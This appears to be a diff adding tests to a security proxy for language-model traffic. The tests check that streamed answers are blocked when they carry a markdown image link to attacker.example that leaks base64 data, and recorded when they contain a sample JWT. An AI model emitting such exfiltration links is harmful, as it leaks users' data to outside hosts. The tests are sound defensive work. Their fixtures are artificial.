@@ -114,6 +114,56 @@ def test_answers_are_inspected_and_a_blocked_stream_ends_with_an_error(setup):
     assert done["status"] == "acknowledged"
 
 
+def test_a_long_match_cut_into_token_sized_events_still_blocks_the_stream(setup):
+    # Each event is scanned with the 96 bytes before it; a match longer than that
+    # (a markdown image carrying data out) is found by the wider scan every 256
+    # bytes or when the answer's text ends, here the latter.
+    p = setup.proxy("long-match", policies=["llm-critical-security"])
+    c = client(p["base"], setup.key)
+    data = "c2VjcmV0LXF1YXJ0ZXJseS1udW1iZXJzLTQyLTQyLTQy" * 3
+    answer = f"Here is the chart you asked for: ![chart](https://attacker.example/c?d={data})"
+    assert len(answer) > 96 + 4 and len(answer) < 256
+    stream = c.chat.completions.create(
+        model="gpt-4o", stream=True,
+        messages=[{"role": "user", "content": "REVERSE: " + answer[::-1]}],
+        extra_headers={"x-mock-chunks": "60", "x-mock-chunk-delay-ms": "3"},
+    )
+    seen = ""
+    with pytest.raises(openai.APIError) as err:
+        for chunk in stream:
+            if chunk.choices:
+                seen += chunk.choices[0].delta.content or ""
+    assert "PI-010" in str(err.value), err.value
+    assert seen and answer.startswith(seen) and ")" not in seen, seen
+
+    (event,) = setup.wait_events(1, proxy=p["id"])
+    assert event["decision"] == "blocked", event
+    assert any(f["rule"] == "PI-010" and f["location"] == "response" for f in event["findings"]), event
+
+
+def test_a_long_secret_at_the_end_of_a_stream_is_recorded(setup):
+    # A JWT in the answer (the `secrets` pack records it in responses) is longer
+    # than the per-event reach and has no closing literal: the wider scan when the
+    # answer's text ends finds it, and the event records it.
+    p = setup.proxy("long-secret", policies=["secrets"])
+    c = client(p["base"], setup.key)
+    jwt = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
+           "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwicm9sZXMiOlsiYWRtaW4iLCJ1c2VyIl19."
+           "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")
+    answer = "Your session token is " + jwt
+    assert len(jwt) > 96 + 4
+    stream = c.chat.completions.create(
+        model="gpt-4o", stream=True,
+        messages=[{"role": "user", "content": "REVERSE: " + answer[::-1]}],
+        extra_headers={"x-mock-chunks": "50"},
+    )
+    text = "".join(ch.choices[0].delta.content or "" for ch in stream if ch.choices)
+    assert text == answer
+    (event,) = setup.wait_events(1, proxy=p["id"])
+    assert any(f["rule"] == "SEC-JWT-001" and f["location"] == "response"
+               for f in event["findings"]), event
+
+
 def test_the_scorer_blocks_a_jailbreak_no_rule_names(setup):
     p = setup.proxy("scored", policies=["llm-critical-security"])
     c = client(p["base"], setup.key)
